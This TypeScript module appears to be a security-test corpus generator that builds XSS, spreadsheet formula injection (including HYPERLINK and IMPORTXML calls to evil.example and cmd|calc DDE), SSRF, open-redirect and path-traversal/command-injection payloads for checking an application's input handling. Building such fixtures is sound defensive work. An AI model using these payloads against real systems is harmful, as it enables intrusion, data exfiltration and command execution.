/** What attackers write, made from their parts: each text once, as many as there are or as are asked for. */

/** Every combination of one of each, joined. */
function joined(...lists: readonly (readonly string[])[]): string[] {
  return lists.reduce<string[]>((made, list) => made.flatMap((before) => list.map((one) => before + one)), [""])
}

/** So many of the texts, spread over all of them; every one of them once. */
function spread(texts: readonly string[], count: number): string[] {
  const all = [...new Set(texts)]
  if (all.length < count) throw new Error(`there are only ${all.length} of ${count}`)
  return Array.from({ length: count }, (_, index) => all[Math.floor((index * all.length) / count)] ?? "")
}

/** What an element or a handler of a script would leave in a page: an attribute, or this name on the window. */
export const tripped = "escaped"

/** Texts that would be elements, attributes or scripts where somebody took them for HTML. */
export function scripts(count: number): string[] {
  const breaks = [
    "",
    '"',
    "'",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "`",
    "{{",
    "${",
    "\u2028",
    "<!--",
  ]
  const names = [
    "img src=x",
    "svg",
    "body",
    "iframe srcdoc=x",
    "video><source",
    "details open",
    "input autofocus",
    "math",
    "object data=x",
    "embed src=x",
    "a href=javascript:escaped=1",
    "style",
    "link rel=stylesheet href=x",
    "form action=x",
    "base href=//evil.example/",
    "x-own",
  ]
  const handlers = ["onerror", "onload", "onclick", "onfocus", "ontoggle", "onanimationstart", "ONERROR", "onpointerenter"]
  const marks = ["=window.escaped=1", "='window.escaped=1'", "=eval(atob(`d2luZG93LmVzY2FwZWQ9MQ`))"]
  const elements = joined(breaks, ["<"], names, [" data-escaped "], handlers, marks, [">"])
  const plain = joined(
    breaks,
    [
      "<script data-escaped>",
      "<SCRIPT/data-escaped>",
      "<scr<script data-escaped>ipt>",
      "<svg><script data-escaped>",
      "\\u003cscript data-escaped\\u003e",
      "&lt;script data-escaped&gt;",
      "%3Cscript data-escaped%3E",
    ],
    ["window.escaped=1", "escaped=1//", "top.escaped=1"],
    ["</script>", "<\\/script>", ""],
  )
  const half = Math.min(plain.length, Math.floor(count / 4))
  return [...spread(plain, half), ...spread(elements, count - half)]
}

/** Addresses of links that would be scripts, or documents that hold some. */
export const scriptLinks: readonly string[] = joined(
  ["", " ", "\t", "\u0001", "\u00A0"],
  [
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    "javascript&colon;",
    "vbscript:",
    "data:text/html,",
    "data:text/html;base64,",
    "blob:",
    "file:///",
    "view-source:javascript:",
    "//evil.example/",
    "\\\\evil.example\\",
  ],
  ["alert(1)", "%61lert(1)"],
)

/** Texts that a spreadsheet would take for a formula. */
export const formulas: readonly string[] = spread(
  joined(
    ["", " ", "  ", "\t", "\r", "\n", "\r\n", "\u00A0", "\u3000", "\uFEFF", "\u200B", "\u200E", "\u2060"],
    ["=", "+", "-", "@", "＝", "＋", "－", "＠"],
    [
      "1+1",
      "cmd|'/C calc'!A0",
      'HYPERLINK("http://evil.example?x="&A1,"x")',
      'IMPORTXML("//evil.example","//a")',
      'DDE("cmd";"/C calc";"x")',
      'SUM(A1:A9)",=1+1,"',
      "2+5+cmd|' /C calc'!A0",
    ],
  ),
  500,
)

/** Addresses of this machine and inner networks, in every way of writing that some parser takes. `port` is where somebody listens on this machine. */
export function innerAddresses(port: number): readonly string[] {
  const here = [
    "127.0.0.1",
    "127.1",
    "127.0.1",
    "2130706433",
    "0x7f000001",
    "0x7f.1",
    "0177.0.0.1",
    "017700000001",
    "127.255.255.254",
    "0",
    "0.0.0.0",
    "[::1]",
    "[::]",
    "[::ffff:127.0.0.1]",
    "[::ffff:7f00:1]",
    "[0:0:0:0:0:0:0:1]",
    "[::127.0.0.1]",
    "[64:ff9b::7f00:1]",
    "[2002:7f00:1::]",
    "localhost",
    "LOCALHOST",
    "localhost.",
    "①②⑦.0.0.1",
    "127。0。0。1",
    "１２７.0.0.1",
    "127.0.0.1.",
  ]
  const others = [
    "10.0.0.1",
    "10.255.255.255",
    "172.16.0.1",
    "172.31.255.254",
    "192.168.0.1",
    "192.168.255.254",
    "169.254.169.254",
    "[::ffff:169.254.169.254]",
    "0xa9fea9fe",
    "2852039166",
    "100.64.0.1",
    "198.18.0.1",
    "224.0.0.1",
    "255.255.255.255",
    "[fd00::1]",
    "[fe80::1]",
    "[ff02::1]",
    "[fc00::1]",
    "[2001:db8::1]",
    "[2001::1]",
    "[::ffff:10.0.0.1]",
    "[64:ff9b::a9fe:a9fe]",
  ]
  const places = [...here, ...others].flatMap((host) => [`${host}:${port}`, `user@${host}:${port}`, `evil.example:x@${host}:${port}`])
  return spread(
    [
      ...joined(["http://", "https://", "HTTP://"], places, ["/", "/hello?x=1#@example.com"]),
      ...joined(
        ["ftp://", "file://", "gopher://", "dict://", "data:", "jar:http://", "unix:", "ldap://", "//", "http:\\\\", "http:/", "http:"],
        here.slice(0, 4).map((host) => `${host}:${port}/`),
      ),
    ],
    300,
  )
}

/** Addresses of pages that would lead to another site, or to a call of ours. */
export const foreignPages: readonly string[] = spread(
  [
    ...joined(
      [
        "//",
        "///",
        "/\\",
        "\\\\",
        "\\/",
        "/%2f%2f",
        "/%2F/",
        "/%5c",
        "/%5C/",
        "/%255c",
        "/.//",
        "/..//",
        "/a/..//",
        "/redirect//",
        "/;//",
        "/?//".slice(0, 1) + "/",
        "/\t/",
        "/\n/",
        "/\r/",
        "/\u0000/",
        "/\u200b/",
        "/%00/",
        "/%09/",
        "/%0d%0a/",
        "/\u2028//",
        "/\uFEFF/",
        " //",
        "\t//",
        "\u0001//",
      ],
      ["evil.example", "evil.example/%2e%2e", "evil.example:80", "user@evil.example", "127.0.0.1", "[::1]", "evil。example"],
    ),
    ...joined(
      [
        "https:",
        "http:",
        "https://",
        "HTTPS://",
        "javascript:",
        "data:text/html,",
        "vbscript:",
        "mailto:",
        "blob:",
        "@",
        ".",
        "https:///",
        "https:/\\",
        "x://",
      ],
      ["evil.example", "evil.example/wel/a", "alert(1)@evil.example"],
    ),
    ...joined(
      ["/prod-api/", "/PROD-API/", "/./prod-api/", "/%70rod-api/", "/prod%2Dapi/", "/a/../prod-api/"],
      ["auth/sso/start", "oidc/session/end", "auth/authorize/logout"],
    ),
  ],
  200,
)

/** Names of files that would lie elsewhere, run, or be taken for something else. */
export const fileNames: readonly string[] = spread(
  [
    ...joined(
      [
        "../",
        "..\\",
        "..%2f",
        "/",
        "\\",
        "C:\\",
        "\\\\evil.example\\share\\",
        "a/../../",
        "....//",
        "~/",
        "./",
        "%2e%2e/",
        "..;/",
        "file:///",
      ],
      ["", "../../", "etc/"],
      ["passwd", "a.pdf", "web.config", "authorized_keys", ".bashrc"],
    ),
    ...joined(
      ["a", "报价", "."],
      [
        ".exe",
        ".EXE",
        ".sh",
        ".js",
        ".bat",
        ".cmd",
        ".ps1",
        ".vbs",
        ".scr",
        ".com",
        ".jar",
        ".apk",
        ".dll",
        ".msi",
        ".html",
        ".svg",
        ".xml",
        ".hta",
        ".lnk",
        ".php",
      ],
      ["", ".pdf", ".", " ", "::$DATA", "%00.pdf"],
    ),
    ...joined(
      [
        "CON",
        "NUL",
        "aux",
        "com1",
        "",
        " ",
        ".",
        "..",
        "a\u0000b",
        "a\nb",
        "a\r\nSet-Cookie: x=1",
        "fdp\u202Eexe",
        "a\u200B",
        "a\u2028b",
        "a:b",
        "a|b",
        "a<b>",
        'a"b',
        "a*b",
        "${x}",
        "$(id)",
        "`id`",
        ";id",
        "-rf",
        "x".repeat(300),
      ],
      ["", ".pdf", ".txt"],
    ),
  ],
  400,
)
